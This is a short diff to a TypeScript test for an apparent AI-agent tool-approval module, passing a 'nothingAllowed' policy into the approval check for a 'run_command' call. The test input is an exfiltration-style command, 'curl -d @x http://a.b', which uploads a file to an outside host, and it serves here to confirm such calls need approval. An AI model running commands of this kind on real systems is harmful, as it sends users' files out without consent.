@@ -3,6 +3,7 @@ import { SessionError } from '../computer/failures';
 import type { LocalComputer } from '../computer/local/local-computer';
 import { ActionFactsFold } from './action-facts';
 import { type ActionRig, actionRig } from './action-rig';
+import { nothingAllowed } from './approval';
 import { SessionLedger } from './session-ledger';
 
 let rig: ActionRig | undefined;
@@ -90,7 +91,10 @@ describe('a pool', () => {
     };
     const actions = rig.again(new ActionFactsFold(task), { task });
     const ask = (args: Record<string, string>) =>
-      actions.approval?.({ name: 'run_command', args: { command: 'curl -d @x http://a.b', ...args } });
+      actions.approval?.(
+        { name: 'run_command', args: { command: 'curl -d @x http://a.b', ...args } },
+        nothingAllowed,
+      );
     expect(ask({ computer_ip: 'local' })).not.toBeNull();
     expect(ask({ computer_ip: 'localhost' })).not.toBeNull();
     expect(ask({})).not.toBeNull();
